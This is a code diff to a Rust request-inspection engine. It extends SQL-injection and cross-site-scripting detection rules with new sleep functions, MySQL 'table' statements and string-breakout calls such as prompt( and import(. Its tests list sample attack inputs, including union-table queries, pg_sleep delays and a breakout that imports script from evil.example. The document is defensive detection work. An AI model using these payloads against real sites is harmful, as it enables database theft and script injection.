@@ -119,6 +119,8 @@ const SQLI: &[(&str, &[&str])] = &[
             "sleep",
             "benchmark",
             "pg_sleep",
+            "pg_sleep_for",
+            "pg_sleep_until",
             "load_file",
             "extractvalue",
             "updatexml",
@@ -138,6 +140,8 @@ const SQL_FUNCTIONS: &[&[u8]] = &[
     b"sleep",
     b"benchmark",
     b"pg_sleep",
+    b"pg_sleep_for",
+    b"pg_sleep_until",
     b"load_file",
     b"extractvalue",
     b"updatexml",
@@ -167,6 +171,11 @@ const XSS: &[(&str, &[&str])] = &[
             "expression(",
             "alert(",
             "fromcharcode(",
+            // Calls that prose also writes ("the prompt(s)", "confirm(yes/no)"), read only where they break out
+            // of a JavaScript string: after a quote and an operator (`'-prompt(1)-'`, `';import('//x')//`).
+            "prompt(",
+            "confirm(",
+            "import(",
         ],
     ),
 ];
@@ -1073,9 +1082,18 @@ fn reads_as_code(needle: &[u8], before: &[u8], after: &[u8]) -> bool {
                     (next.len() < rest.len()).then_some(next)
                 })
                 .unwrap_or(after);
-            after.starts_with(b"select")
+            after.starts_with(b"select") || table_statement(after)
         }
         b"expression(" => skip_back(before, b" ").ends_with(b":"),
+        b"prompt(" | b"confirm(" | b"import(" => {
+            let operators = skip_back(before, b" ");
+            let operand = skip_back(operators, b"-+*/%&|^;,!~?:<>=");
+            let quote = skip_back(skip_back(operand, b" "), b")");
+            operand.len() < operators.len()
+                && quote
+                    .last()
+                    .is_some_and(|b| matches!(b, b'\'' | b'"' | b'`'))
+        }
         _ if SCHEMES.iter().any(|s| s.as_bytes() == needle) => url_position(before, after),
         _ if SQL_FUNCTIONS.contains(&needle) => match sql_gap(after, false).strip_prefix(b"(") {
             Some(arguments) => arguments_read_as_code(needle, arguments),
@@ -1089,6 +1107,25 @@ fn reads_as_code(needle: &[u8], before: &[u8], after: &[u8]) -> bool {
 fn skip<'a>(text: &'a [u8], over: &[u8]) -> &'a [u8] {
     let n = text.iter().take_while(|b| over.contains(b)).count();
     &text[n..]
+}
+
+/// Whether `text` is MySQL 8's `table t` statement (`union table users`, the whole table as a `select *` reads
+/// it): `table`, a name and then the text's end, a comment, a `)`, or `order by`/`limit` — "union table tennis
+/// club" goes on with words, "the union table up; see you" with a `;`.
+fn table_statement(text: &[u8]) -> bool {
+    let Some(rest) = text.strip_prefix(b"table") else {
+        return false;
+    };
+    let gap = sql_gap(rest, false);
+    let spaced = gap.len() < rest.len();
+    let (name, after) = word(skip(gap, b"`"));
+    let after = skip(after.strip_prefix(b".").map_or(after, |r| word(r).1), b" `");
+    !name.is_empty()
+        && spaced
+        && ((ends_statement(after) && !after.starts_with(b";"))
+            || after.starts_with(b")")
+            || word(after).0 == b"order"
+            || word(after).0 == b"limit")
 }
 
 /// How far [`sql_gap`] looks for a comment's end.
@@ -4213,6 +4250,44 @@ mod tests {
         for text in [
             "the union -- and select boxes -- line up",
             "a union /* of sorts */ of select people",
+        ] {
+            assert_eq!(
+                inspect_body(&c, Some("text/plain"), text.as_bytes()),
+                None,
+                "{text}"
+            );
+        }
+    }
+
+    #[test]
+    fn table_statements_sleeps_and_string_breakouts_are_caught() {
+        let c = config();
+        for (query, rule) in [
+            ("id=1+union+table+users", "sqli-union"),
+            ("id=1+union+all+table+users--+-", "sqli-union"),
+            ("id=1+union+table+`users`+limit+1", "sqli-union"),
+            ("id=1+and+pg_sleep_for('5+minutes')", "sqli-function"),
+            ("id=1+and+pg_sleep_until(now()%2B'1+hour')", "sqli-function"),
+            ("q='-prompt(1)-'", "xss-dom"),
+            ("q='-confirm(document.domain)-'", "xss-dom"),
+            ("q=';import('//evil.example/x.js')//", "xss-dom"),
+            ("q=\"%2Bprompt(1)%2B\"", "xss-dom"),
+            ("q=');confirm(1)//", "xss-dom"),
+        ] {
+            assert_eq!(
+                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
+                Some(rule),
+                "{query}"
+            );
+        }
+        for text in [
+            "Meet at the union table tennis club",
+            "The union table was full",
+            "We set the union table up; see you",
+            "Write the prompt(s) first, then confirm(yes/no) and import(ant) notes",
+            "Step 2 - prompt(user) for a name",
+            "the 'prompt' (s) and a-confirm(x)",
+            "She said 'ok' - confirm (later)",
         ] {
             assert_eq!(
                 inspect_body(&c, Some("text/plain"), text.as_bytes()),
